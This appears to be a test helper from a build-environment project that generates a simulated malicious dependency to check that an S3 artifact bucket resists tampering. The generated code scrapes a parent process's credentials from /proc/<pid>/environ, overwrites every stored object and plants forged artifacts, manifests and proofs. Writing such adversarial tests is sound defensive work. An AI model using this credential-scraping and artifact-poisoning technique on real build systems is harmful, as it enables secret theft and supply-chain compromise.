import path from 'node:path';
import { buildSync } from 'esbuild';

const project = path.join(__dirname, '../../..');

/**
 * What a dependency that has turned evil runs in a build, as one file: it has the credentials of the build's role, and
 * knows everything that gitenv's own program does. It tries to replace every object of the environment's bucket, and to
 * leave new ones where others look, and prints what S3 said of each.
 * @param victim the commit in whose name it acts
 * @param archive below its own folder: what it puts in place of archives and artifacts
 */
export function evilProgram({ victim, archive }: { victim: string; archive: string }): string {
  const contents = `
    import fs from 'node:fs';
    import { listObjects } from './lib/aws/objects/list-objects';
    import { storeObject } from './lib/aws/objects/object-store';
    import { jobOf } from './buildspecs/program/job/job';
    import { Readable } from 'node:stream';
    import { createHash } from 'node:crypto';

    // The kit hides these from the commands of a commit; the process above still has them.
    const above = fs.readFileSync('/proc/' + process.env.ABOVE + '/environ', 'utf8');
    const env = Object.fromEntries(above.split('\\0').filter(Boolean).map((line) => {
      const at = line.indexOf('=');
      return [line.slice(0, at), line.slice(at + 1)];
    }));
    const { bucket } = jobOf(env, () => undefined);
    const body = fs.readFileSync(${JSON.stringify(archive)});
    const sha256 = createHash('sha256').update(body).digest('hex');
    const store = async (key, onlyNew) => {
      const object = { open: () => Readable.from([body]), bytes: body.length, sha256, onlyNew };
      try {
        const isNew = await storeObject(bucket, key, object);
        console.log('EVIL', onlyNew ? 'add' : 'replace', isNew ? 'done' : 'there', key);
      } catch (error) {
        console.log('EVIL', onlyNew ? 'add' : 'replace', error.name, key);
      }
    };
    const main = async () => {
      const victim = ${JSON.stringify(victim)};
      const hex = 'e'.repeat(64);
      for (const { key } of await listObjects(bucket)) await store(key, false);
      const added = [
        'app/Source/evil', 'app/Bundle/evil', 'drift/latest.json', 'drift/evil', 'sites/evil.json', 'sites/Bundle/evil',
        'promoted/' + victim + '/' + hex, 'promoted/Bundle/evil', 'records/1.json', 'proofs/' + victim + '/1.json', 'guard/' + hex,
        'promoted/' + victim + '/repair-' + env.GITENV_EXECUTION_ID, 'promoted/' + env.GITENV_COMMIT + '/repair-' + env.GITENV_EXECUTION_ID,
        'bundles/' + victim + '/manifest.json', 'bundles/' + victim + '/' + env.GITENV_EXECUTION_ID,
        'bundles/' + victim + '/11111111-1111-4111-8111-111111111111', 'anything-else',
      ];
      for (const key of added) await store(key, true);
    };
    main();
  `;
  const { outputFiles } = buildSync({
    stdin: { contents, resolveDir: project, loader: 'ts' },
    bundle: true,
    platform: 'node',
    target: 'node20',
    write: false,
    logLevel: 'silent',
  });
  return outputFiles[0]?.text ?? '';
}
